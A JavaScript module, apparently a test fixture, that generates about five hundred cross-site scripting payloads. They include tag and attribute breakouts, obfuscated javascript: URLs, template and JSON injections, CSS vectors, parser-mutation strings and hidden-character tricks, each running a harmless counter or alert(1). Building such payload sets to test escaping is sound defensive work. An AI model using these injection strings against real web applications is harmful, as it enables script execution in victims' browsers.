// Five hundred texts that would run a script where a text became HTML, an attribute, a script, a style or an address.

/** What each of them tries to do; `window.__ran` tells. */
const RUN = "window.__ran=(window.__ran||0)+1";
const CALL = "alert(1)";

const acts = [RUN, CALL];
const times = (lists, make) => lists.reduce((all, list) => all.flatMap((one) => list.map((two) => [...one, two])), [[]]).map((parts) => make(...parts));

/** Ways out of where a text may stand. */
const WAYS_OUT = ["", "\">", "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</template>", "</option></select>", "</p></fieldset></form>", "--!>", "</noscript>", "\"}</script>", "\u2028*/</script>"];

const TAGS = acts.flatMap((act) => [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<math><mtext><img src=x onerror='${act}'></mtext></math>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data="data:text/html,<script>${act}</script>"></object>`,
  `<embed src="javascript:${act}">`,
  `<details open ontoggle=${act}>`,
  `<body onload=${act}>`,
]);

const EVENTS = ["onclick", "onfocus", "onmouseover", "onanimationstart", "onbeforeinput", "onpointerdown", "onload", "onerror"];
const ATTRIBUTES = times([["\"", "'", "` ", " "], EVENTS, acts], (quote, event, act) => `x${quote}${event}=${quote}${act}${quote} autofocus tabindex=1 ${quote}`);

const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:", "javascript&colon;", "&#106;avascript:", "data:text/html,", "vbscript:", "javascript://%0a", "blob:javascript:"];
const ADDRESSES = times([SCHEMES, acts], (scheme, act) => `${scheme}${act}`).flatMap((address) => [address, `<a href="${address}">x</a>`, `<form action="${address}"><button autofocus>x</button></form>`]);

const TEMPLATES = acts.flatMap((act) => [`{{${act}}}`, `{{constructor.constructor('${act}')()}}`, `\${${act}}`, `#{${act}}`, `<%= ${act} %>`, `{%raw%}${act}{%endraw%}`, `{{html:form}}${act}`, `[[${act}]]`, `%{${act}}`, `@{${act}}`]);

const JSONS = acts.flatMap((act) => [
  `"}];${act};[{"`,
  `\\"};${act}//`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `</script ><script>${act}//`,
  `</SCRIPT\n><script>${act}</script>`,
  `<!--<script>${act}`,
  `<!--<script></script>--><script>${act}</script>`,
  `__proto__":{"x":"${act}"},"`,
  `\u2028${act}\u2029`,
  `'-${act}-'`,
]);

const STYLES = acts.flatMap((act) => [
  `}*{background:url("javascript:${act}")}`,
  `<style>@import 'javascript:${act}';</style>`,
  `<style>*{animation:x}@keyframes x{}</style><b onanimationstart=${act} style="animation:x">x</b>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}"><script>${act}</script>`,
  `expression(${act})`,
]);

/** What a second reading of HTML makes something else of. */
const MUTATIONS = acts.flatMap((act) => [
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<template><script>${act}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${act}>">`,
  `<listing>&lt;img src=1 onerror=${act}&gt;</listing>`,
  `&lt;img src=x onerror=${act}&gt;`,
  `&amp;lt;script&amp;gt;${act}&amp;lt;/script&amp;gt;`,
  `<select><template><img src=x onerror=${act}></template></select>`,
]);

/** Signs that a reader may pass over, or that turn what follows. */
const SIGNS = ["\u0000", "\u0008", "\u000c", "\u00a0", "\u200b", "\u200f", "\u202e", "\u2066", "\ufeff", "\ufffd", "\u{e0001}", "\ufdd0"];
const TRICKS = times([SIGNS, acts], (sign, act) => [`<scr${sign}ipt>${act}</scr${sign}ipt>`, `${sign}<img${sign}src=x${sign}onerror=${act}>`, `＜script＞${act}＜/script＞${sign}`]).flat();

const tags = times([WAYS_OUT, TAGS], (out, tag) => `${out}${tag}`);
const ALL = [...new Set([tags, ATTRIBUTES, ADDRESSES, TEMPLATES, JSONS, STYLES, MUTATIONS, TRICKS].flat())];
const WANTED = 500;

/** So many, of every family alike. */
export const INJECTIONS = Array.from({ length: WANTED }, (_, i) => ALL[Math.floor((i * ALL.length) / WANTED)]);
if (new Set(INJECTIONS).size !== WANTED) throw new Error(`there are only ${ALL.length} injections`);
